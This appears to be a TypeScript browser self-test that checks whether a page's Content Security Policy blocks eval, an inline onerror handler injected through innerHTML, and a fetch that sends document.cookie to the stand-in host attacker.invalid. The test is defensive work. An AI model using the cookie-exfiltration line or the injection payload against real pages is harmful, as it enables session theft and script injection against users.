export interface Attempt {
  readonly what: string
  readonly blocked: boolean
}

/** What an injected script would do next, tried for real. The page's policy has to stop each. */
export async function tryAttacks(): Promise<Attempt[]> {
  return [
    { what: 'Run text as code with eval', blocked: !runsEval() },
    { what: 'Run an inline event handler', blocked: !(await runsInlineHandler()) },
    { what: 'Send data to another origin', blocked: await blocksSending() },
  ]
}

function runsEval(): boolean {
  try {
    return new Function('return true')() === true
  } catch {
    return false
  }
}

async function runsInlineHandler(): Promise<boolean> {
  const box = document.createElement('div')
  box.innerHTML = '<img alt="" src="data:," onerror="document.documentElement.dataset.ran = 1">'
  await new Promise((resolve) => setTimeout(resolve, 200))
  const ran = document.documentElement.dataset.ran !== undefined
  delete document.documentElement.dataset.ran
  return ran
}

/** Only the report of the policy counts: a network that happens to be down proves nothing. */
async function blocksSending(): Promise<boolean> {
  const target = 'https://attacker.invalid'
  let blocked = false
  const note = (event: SecurityPolicyViolationEvent) => {
    if (event.blockedURI.startsWith(target)) blocked = true
  }
  document.addEventListener('securitypolicyviolation', note)
  await fetch(`${target}/?loot=${encodeURIComponent(document.cookie)}`).catch(() => undefined)
  await new Promise((resolve) => setTimeout(resolve, 50))
  document.removeEventListener('securitypolicyviolation', note)
  return blocked
}
